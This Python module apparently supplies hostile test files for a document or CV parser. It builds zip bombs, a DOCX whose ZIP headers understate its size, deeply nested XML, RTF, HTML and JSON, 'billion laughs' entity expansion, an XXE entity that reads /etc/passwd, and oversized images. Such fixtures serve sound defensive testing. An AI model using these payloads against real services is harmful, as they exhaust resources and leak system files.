"""Office files, texts, pages and pictures made to do harm."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
_PARAGRAPH = "<w:p><w:r><w:t>Ada Example, foreman at Harbour Works 2019 - 2021</w:t></w:r></w:p>"
_ENTITIES = (
    '<!DOCTYPE d [<!ENTITY a0 "aaaaaaaaaa">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def docx(body: str, before: str = "", others: dict[str, bytes] | None = None) -> bytes:
    """Return a DOCX with this body; `before` stands in front of its root element."""
    document = f'<?xml version="1.0"?>{before}<w:document {_W}><w:body>{body}</w:body></w:document>'
    return archive(
        {"[Content_Types].xml": _TYPES.encode(), "_rels/.rels": _RELS.encode(), "word/document.xml": document.encode()}
        | (others or {})
    )


def odt(body: str, before: str = "") -> bytes:
    """Return an ODT with this text."""
    names = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text", "table")
    )
    content = f'<?xml version="1.0"?>{before}<office:document-content {names}><office:body><office:text>{body}'
    content += "</office:text></office:body></office:document-content>"
    return archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def archive(files: dict[str, bytes]) -> bytes:
    """Return a ZIP."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files.items():
            made.writestr(name, data)
    return out.getvalue()


def docx_bomb() -> bytes:
    return docx(_PARAGRAPH + " " * 400_000_000)


def docx_that_lies() -> bytes:
    """A part that says it is small and is not."""
    made = bytearray(docx(_PARAGRAPH + " " * 300_000_000))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = (
            made.find(b"word/document.xml", made.find(sign))
            if sign == b"PK\x03\x04"
            else made.rfind(b"word/document.xml")
        )
        head = made.rfind(sign, 0, at)
        struct.pack_into("<I", made, head + place, 5000)
    return bytes(made)


def docx_of_noise() -> bytes:
    """80 MB of paragraphs that pack badly enough to pass for honest."""
    chance = random.Random(1)
    texts = ("".join(chance.choices("abcdefghij klmnop", k=400)) for _ in range(60_000))
    return docx("".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts))


def docx_of_tables() -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 3000 + _PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 3000)


def docx_deep() -> bytes:
    return docx("<w:sdt><w:sdtContent>" * 200_000 + _PARAGRAPH + "</w:sdtContent></w:sdt>" * 200_000)


def docx_wide_table() -> bytes:
    row = "<w:tr>" + f"<w:tc>{_PARAGRAPH}</w:tc>" * 500 + "</w:tr>"
    return docx("<w:tbl>" + row * 200 + "</w:tbl>")


def many_entries() -> bytes:
    return docx(_PARAGRAPH, others={f"word/{number}.xml": b"<a/>" for number in range(60_000)})


def png(width: int, height: int, value: int = 255) -> bytes:
    """Return a PNG of one colour without holding its pixels."""
    packer = zlib.compressobj(9)
    row = b"\0" + bytes([value]) * (width * 3)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(*part) for part in ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    )


def photo(width: int, height: int) -> bytes:
    """Return a JPEG with the letters of a CV and noise."""
    from PIL import Image, ImageDraw

    noise = Image.effect_noise((width // 8, height // 8), 40).resize((width, height)).convert("RGB")
    pen = ImageDraw.Draw(noise)
    for number, text in enumerate(
        ("Ada Example", "ada@example.org", "Experience", "Foreman, Harbour Works, 2019 - 2021")
    ):
        pen.text((width // 10, height // 10 + number * height // 20), text, fill="black", font_size=height // 40)
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=80)
    return out.getvalue()


def gif_of_frames() -> bytes:
    from PIL import Image

    frames = [Image.new("L", (2000, 2000), number % 256) for number in range(200)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def tiff_that_lies() -> bytes:
    tags = ((256, 4, 200_000), (257, 4, 200_000), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (279, 4, 100))
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + b"\0\0\0\0" + b"\0" * 100


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


ALL: dict[str, tuple[str, Callable[[], bytes]]] = {
    "DOCX, 400 MB of spaces": ("a.docx", docx_bomb),
    "DOCX that lies about its size": ("a.docx", docx_that_lies),
    "DOCX, 25 MB of noise": ("a.docx", docx_of_noise),
    "DOCX, tables 3,000 deep": ("a.docx", docx_of_tables),
    "DOCX, elements 400,000 deep": ("a.docx", docx_deep),
    "DOCX, table of 100,000 cells": ("a.docx", docx_wide_table),
    "DOCX, 60,000 parts": ("a.docx", many_entries),
    "DOCX, a billion laughs": ("a.docx", lambda: docx("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", _ENTITIES)),
    "DOCX, entity of a file": (
        "a.docx",
        lambda: docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ),
    "renamed ZIP": ("a.docx", lambda: archive({"notes.txt": b"hello"})),
    "ODT, 400 MB of spaces": ("a.odt", lambda: odt("<text:p>a</text:p>" + " " * 400_000_000)),
    "ODT, a billion laughs": ("a.odt", lambda: odt("<text:p>&a9;</text:p>", _ENTITIES)),
    "ODT, spaces that count": ("a.odt", lambda: odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>')),
    "ODT, rows that repeat": (
        "a.odt",
        lambda: odt(
            '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
            'table:number-columns-repeated="1000000000"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'
        ),
    ),
    "RTF, groups 5,000,000 deep": ("a.rtf", lambda: b"{\\rtf1 " + b"{" * 5_000_000 + b"Ada" + b"}" * 5_000_001),
    "RTF, 15 MB picture": ("a.rtf", lambda: b"{\\rtf1 Ada Example{\\pict\\pngblip " + b"89504e47" * 1_900_000 + b"}}"),
    "RTF, binary of 2^31": ("a.rtf", lambda: b"{\\rtf1 Ada {\\bin2147483647 abc} Example}"),
    "RTF, 19 MB of words": ("a.rtf", lambda: b"{\\rtf1 " + b"Ada\\par \\b Example\\b0  " * 800_000 + b"}"),
    "HTML, 1,000,000 deep": ("a.html", lambda: b"<!doctype html><html><body>" + b"<div>" * 1_000_000 + b"Ada"),
    "HTML, 19 MB of tables": ("a.html", lambda: b"<!doctype html><body>" + b"<table><tr><td>Ada</table>" * 700_000),
    "HTML, table of 10^9 columns": (
        "a.html",
        lambda: b"<!doctype html><body><table>" + b"<tr><td colspan=999999999 rowspan=999999999>Ada</td>" * 100,
    ),
    "text, 19 MB in a line": ("a.txt", lambda: b"Ada Example " * 1_600_000),
    "text, 19 MB of short lines": ("a.txt", lambda: b"Ada Example\n2019 - 2021\n" * 800_000),
    "text, 19 MB of addresses": ("a.txt", lambda: b"a.b@c." * 3_200_000),
    "text, 19 MB of years": ("a.txt", lambda: b"2019-2020-" * 1_900_000),
    "text, 19 MB of digits": ("a.txt", lambda: b"+49 123 4567 " * 1_500_000),
    "text, 19 MB of bullets": ("a.txt", lambda: b"- a\n" * 4_800_000),
    "Markdown, 19 MB of stars": ("a.md", lambda: b"**" * 9_500_000),
    "Markdown, 19 MB of brackets": ("a.md", lambda: b"[a](" * 4_700_000),
    "JSON, 1,000,000 deep": ("a.json", lambda: b'{"basics":' + b"[" * 1_000_000),
    "JSON, 300,000 jobs": (
        "a.json",
        lambda: b'{"work":[' + b'{"name":"A","position":"B"},' * 300_000 + b'{"name":"C"}]}',
    ),
    "PNG of 900 megapixels": ("a.png", lambda: png(30_000, 30_000)),
    "PNG of 1 pixel by 6,000,000": ("a.png", lambda: png(1, 6_000_000)),
    "photo of 30 megapixels": ("a.jpg", lambda: photo(6500, 4600)),
    "GIF of 200 frames": ("a.gif", gif_of_frames),
    "TIFF that lies about its size": ("a.tif", tiff_that_lies),
}
